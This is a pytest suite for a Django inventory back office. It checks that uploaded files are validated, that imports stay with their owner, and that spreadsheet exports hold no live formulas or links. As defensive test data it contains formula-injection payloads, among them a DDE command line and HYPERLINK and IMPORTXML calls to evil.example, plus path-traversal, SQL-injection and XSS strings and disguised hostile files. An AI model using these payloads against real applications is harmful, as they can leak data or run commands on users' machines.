"""S50, S51, S52: files of strangers come in checked, stay their owner's, and go out with nothing live."""

from io import BytesIO

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from backoffice.models import ImportRun, Upload
from backoffice.spreadsheets import uploads
from inventory.models import Product, Sku, StockDocument, StockEntry
from tests.inventory.sheets import csv, xlsx

pytestmark = pytest.mark.django_db
SKUS = ("code", "name")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "1E5",
    "00123",
    '=IMPORTXML(CONCAT("http://evil",A1),"//a")',
    "%0A=1",
    "|x",
    "1-2",
)


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def page(name, *args):
    return reverse(f"admin:inventory_{name}", args=args)


IMPORT = "/admin/imports/inventory.skus/"


def sent(client, file):
    """Send a file of SKUs; returns its run."""
    client.post(IMPORT, {"file": file})
    return ImportRun.objects.order_by("-pk").first()


def confirm(client, run):
    return client.post(reverse("import_do", args=[run.pk]), {"do": "all"})


def test_only_who_sent_a_file_confirms_it(see, house):
    run = sent(see("buyer"), csv([("NEW-1", "New")], header=SKUS))
    assert run.new_count == 1
    for role in ("owner", "ops_admin"):
        confirm(see(role), run)
        assert not Sku.objects.filter(code="NEW-1").exists()
    confirm(see("buyer"), run)
    assert Sku.objects.filter(code="NEW-1").count() == 1
    confirm(see("buyer"), run)  # used up
    assert Sku.objects.filter(code="NEW-1").count() == 1
    assert not Upload.objects.exists()


@pytest.mark.sqlite
@pytest.mark.parametrize("token", ["", "../../etc/passwd", "x" * 5000, "\x00", "%2e%2e%2f", "' OR 1=1 --"])
def test_a_made_up_name_of_a_kept_file_opens_nothing(see, house, token):
    from backoffice.errors import YikuError

    with pytest.raises(YikuError):
        uploads.find(token, owner=None, purpose="import")
    before = Sku.objects.count()
    answer = see("buyer").post(IMPORT, {"upload": token})
    assert (answer.status_code, answer.context["form"].is_valid()) == (200, False)
    assert (Sku.objects.count(), ImportRun.objects.count()) == (before, 0)


def test_a_count_is_confirmed_by_those_only_who_see_its_warehouse(people, see, house):
    from inventory.models import Access

    Access.objects.create(user=people["warehouse_clerk"], all_shops=True)  # no warehouse
    before = StockEntry.objects.count()
    for do in ("post", "confirm", "approve", "undo", "discard"):
        assert (
            people.client("warehouse_clerk").post(page("stockdocument_do", house.document.pk), {"do": do}).status_code
            == 404
        )
    assert StockEntry.objects.count() == before
    assert StockDocument.objects.get(pk=house.document.pk).state == house.document.state


HOSTILE = {
    "svg": ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "html called csv": ("x.csv", b"<!DOCTYPE html><script>alert(1)</script>"),
    "program called xlsx": ("x.xlsx", b"MZ\x90\x00" + b"\x00" * 400),
    "zip called xlsx": ("x.xlsx", b"PK\x03\x04" + b"\x00" * 100),
    "macros": ("x.xlsm", b"PK\x03\x04"),
    "path in the name": ("../../../tmp/x.csv", b"code,name\nP-1,\x00\n"),
    "nothing": ("x.csv", b""),
    "old excel": ("x.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 400),
    "script in the name": ("<img src=x onerror=zqx()>.csv", b"\xff\xff\xff"),
}


@pytest.mark.sqlite
@pytest.mark.parametrize(("name", "content"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_in_a_sentence_and_leaves_nothing(see, house, name, content):
    before = (Sku.objects.count(), Product.objects.count(), StockDocument.objects.count())
    places = [
        (IMPORT, {}),
        (page("stockdocument_upload_count"), {"warehouse": house.seller.place.pk, "reason": "count"}),
    ]
    for url, more in places:
        answer = see("owner").post(url, {"file": SimpleUploadedFile(name, content), **more})
        assert answer.status_code == 200
        assert b"<img src=x" not in answer.content
        assert not answer.context.get("upload")
    assert (Sku.objects.count(), Product.objects.count(), StockDocument.objects.count()) == before


@pytest.mark.sqlite
def test_kept_files_are_served_to_nobody(people, see, house):
    see("buyer")
    row = uploads.keep(csv([("NEW-1", "New")], header=SKUS), owner=people["buyer"], purpose="import")
    for url in (
        f"/media/uploads/{row.path}",
        f"/uploads/{row.path}",
        f"/static/{row.path}",
        f"/admin/uploads/{row.path}",
    ):
        assert see("buyer").get(url).status_code in (302, 404)
    assert uploads.path_of(row).stat().st_mode & 0o077 == 0


# --- out -------------------------------------------------------------------------------------------------------------


@pytest.fixture
def formulas(house):
    """Goods whose names are formulas, on a shelf."""
    from tests.inventory import factories as stock

    for number, text in enumerate(FORMULAS):
        sku = stock.sku(f"F-{number}")
        Sku.objects.filter(pk=sku.pk).update(name=text, name_en=text, hs_code="=1+1")
        Product.objects.filter(pk=sku.product_id).update(name=f"{text}{number}", brand=text, category=text)
        stock.stock(sku, house.seller.place, 1)
    return house


def download(answer) -> bytes:
    assert answer.status_code == 200
    assert answer["Content-Disposition"].startswith("attachment;")
    assert answer["X-Content-Type-Options"] == "nosniff"
    return b"".join(answer.streaming_content)


EXPORTS = {
    "skus": ("get", "sku_export_skus", {}),
    "balances": ("get", "balance_export_xlsx", {}),
    "chosen balances": (
        "post",
        "balance_changelist",
        {"action": "export_selected", "select_across": "1", "index": "0"},
    ),
    "count sheet": ("get", "stockdocument_count_sheet", {}),
}


@pytest.mark.sqlite
@pytest.mark.parametrize(("method", "name", "data"), EXPORTS.values(), ids=EXPORTS.keys())
def test_no_export_holds_a_live_formula_or_link(see, formulas, method, name, data):
    if name == "balance_changelist":
        from inventory.models import Balance

        data = {**data, "_selected_action": list(Balance.objects.values_list("pk", flat=True))}
    if name == "stockdocument_count_sheet":
        data = {"warehouse": formulas.seller.place.pk}
    book = openpyxl.load_workbook(BytesIO(download(getattr(see("owner"), method)(page(name), data))))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert "=cmd|' /C calc'!A0" in {cell.value for cell in cells}


def test_what_went_out_comes_in_again_as_it_was(see, formulas):
    """All but a blank in front, which no form and no sheet keeps: a name that has one is tidied, and that is said."""
    fields = ("code", "name", "name_en", "hs_code", "product__name", "product__brand")
    before = list(Sku.objects.order_by("pk").values_list(*fields))
    tidied = [tuple(text.strip() for text in row) for row in before]
    data = download(see("owner").get(page("sku_export_skus")))
    run = sent(see("owner"), SimpleUploadedFile("skus.xlsx", data))
    changed = sum(row != clean for row, clean in zip(before, tidied, strict=True))
    assert changed == sum(text != text.strip() for text in FORMULAS)
    assert (run.bad_count, run.new_count, run.change_count) == (0, 0, changed)
    confirm(see("owner"), run)
    assert list(Sku.objects.order_by("pk").values_list(*fields)) == tidied


def test_a_formula_that_comes_in_is_text_or_refused(see, house):
    run = sent(see("owner"), xlsx([("F-1", "=1+1"), ("F-2", '=HYPERLINK("http://evil.example")')], header=SKUS))
    confirm(see("owner"), run)
    assert not Sku.objects.filter(code__in=["F-1", "F-2"]).exclude(name__startswith="=").filter(name="2").exists()


@pytest.mark.sqlite
def test_every_download_is_on_record(see, formulas):
    from backoffice.models import AuditEntry

    client = see("owner")
    for name in ("sku_export_skus", "balance_export_xlsx"):
        download(client.get(page(name)))
    assert set(AuditEntry.objects.filter(action__startswith="export.").values_list("action", flat=True)) == {
        "export.skus",
        "export.stock",
    }
